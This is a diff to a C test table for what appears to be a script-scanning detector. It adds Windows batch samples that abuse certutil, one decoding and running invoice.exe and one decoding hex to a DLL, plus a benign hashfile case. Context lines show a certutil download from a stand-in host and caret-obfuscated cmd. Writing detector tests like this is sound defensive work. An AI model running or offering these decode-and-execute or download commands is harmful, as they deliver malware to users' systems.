@@ -78,6 +78,13 @@ static const struct scase cases[] = {
     {"fetch.cmd",
      "@echo off\r\ncertutil -urlcache -split -f http://example.invalid/a.txt %TEMP%\\a.txt\r\n",
      "script.download", FG_SEV_MEDIUM},
+    {"decode.cmd",
+     "@echo off\r\ncertutil -decode invoice.txt %TEMP%\\invoice.exe >nul\r\n"
+     "%TEMP%\\invoice.exe\r\n",
+     "script.encoded", FG_SEV_MEDIUM},
+    {"decodehex.bat", "@echo off\r\ncertutil.exe /decodehex a.hex a.dll\r\n", "script.encoded",
+     FG_SEV_MEDIUM},
+    {"checksum.bat", "@echo off\r\ncertutil -hashfile setup.exe SHA256\r\n", NULL, 0},
     {"caret.bat", "@echo off\r\nc^m^d /c e^c^h^o hi\r\n", "script.obfuscation", FG_SEV_MEDIUM},
     {"backup.bat",
      "@echo off\r\nsetlocal\r\nset SRC=%USERPROFILE%\\Documents\r\n"
